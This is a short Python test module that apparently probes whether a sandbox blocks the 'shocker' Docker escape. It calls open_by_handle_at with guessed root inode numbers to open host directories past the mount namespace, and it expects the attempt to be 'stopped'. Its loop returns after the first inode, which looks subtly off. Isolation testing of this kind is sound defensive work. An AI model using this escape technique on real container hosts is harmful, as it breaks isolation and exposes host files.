"""Opens a file of the host by its handle, past all paths (how "shocker" left Docker containers).

A handle is the number of an inode: no mount namespace and no missing path keep it from being found.
"""

import ctypes
import os
import struct

EXPECT = "stopped"
BARE = "stopped"  # takes a capability, which every tier gives up


def attack(target):
    anything = os.open(".", os.O_RDONLY)
    for inode in (2, 128, 1):  # where the roots of ext4, xfs and most others are
        handle = ctypes.create_string_buffer(struct.pack("=IiQ", 8, 1, inode))
        return f"inode {inode}: {os.listdir(target.syscall('open_by_handle_at', anything, handle, os.O_RDONLY))}"
